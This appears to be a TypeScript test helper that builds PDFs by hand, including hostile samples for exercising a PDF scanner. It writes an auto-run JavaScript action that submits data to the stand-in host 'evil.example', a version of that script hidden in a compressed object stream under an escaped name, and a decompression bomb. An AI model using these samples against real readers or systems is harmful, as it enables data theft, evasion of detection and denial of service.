import { deflateSync } from 'node:zlib'

type Parts = {
  /** Entries of the catalog. */
  catalog?: string
  /** More objects, from number 10 on; a buffer is written as it is. */
  objects?: readonly (string | Buffer)[]
  trailer?: string
}

const CONTENT = 'BT /F1 24 Tf 40 120 Td (Visit note) Tj ET'
const FIRST_EXTRA = 10

/** A page with a line of text, and whatever else. */
export function buildPdf({ catalog = '', objects = [], trailer = '' }: Parts = {}): Buffer {
  const all: [number, Buffer][] = [
    [1, Buffer.from(`<</Type/Catalog/Pages 2 0 R${catalog}>>`, 'latin1')],
    [2, Buffer.from('<</Type/Pages/Kids[3 0 R]/Count 1>>')],
    [
      3,
      Buffer.from(
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
      ),
    ],
    [4, Buffer.from(`<</Length ${CONTENT.length}>>stream\n${CONTENT}\nendstream`)],
    [5, Buffer.from('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>')],
    ...objects.map((object, at): [number, Buffer] => [
      FIRST_EXTRA + at,
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
    ]),
  ]
  const parts = [Buffer.from('%PDF-1.7\n')]
  const places = new Map<number, number>()
  let at = parts[0]?.length ?? 0
  for (const [number, body] of all) {
    const object = Buffer.concat([Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')])
    places.set(number, at)
    parts.push(object)
    at += object.length
  }
  const size = FIRST_EXTRA + objects.length
  const rows = Array.from({ length: size }, (_, number) => {
    const place = places.get(number)
    return place === undefined ? '0000000000 65535 f \n' : `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${size}\n${rows.join('')}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(table, 'latin1')])
}

/** A stream with its dictionary, as an object. */
export const buildStream = (entries: string, packed: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${entries}/Length ${packed.length}>>stream\n`, 'latin1'),
    packed,
    Buffer.from('\nendstream'),
  ])

/** Objects in a packed stream, by their number. */
export function packObjects(objects: Readonly<Record<number, string>>): { head: string; plain: Buffer } {
  const pairs: string[] = []
  let body = ''
  for (const [number, object] of Object.entries(objects)) {
    pairs.push(`${number} ${body.length}`)
    body += `${object} `
  }
  const places = `${pairs.join(' ')} `
  return {
    head: `/Type/ObjStm/N ${pairs.length}/First ${places.length}`,
    plain: Buffer.from(places + body, 'latin1'),
  }
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>'

/** A script that a reader would run on opening, in plain sight. */
export const buildScriptPdf = () => buildPdf({ catalog: '/OpenAction 10 0 R', objects: [SCRIPT] })

/** The same in a packed stream of objects, under an escaped name. */
export function buildHiddenScriptPdf(): Buffer {
  const { head, plain } = packObjects({ 20: SCRIPT.replace('/JavaScript', '/J#61vaScript') })
  return buildPdf({
    catalog: '/OpenAction 20 0 R',
    objects: [buildStream(`${head}/Filter/FlateDecode`, deflateSync(plain))],
  })
}

/** A page's drawing that unpacks to so many megabytes. */
export const buildContentBomb = (megabytes: number): Buffer =>
  buildPdf({
    objects: [buildStream('/Filter/FlateDecode', deflateSync(Buffer.alloc(megabytes * 1024 ** 2, ' ')))],
  })
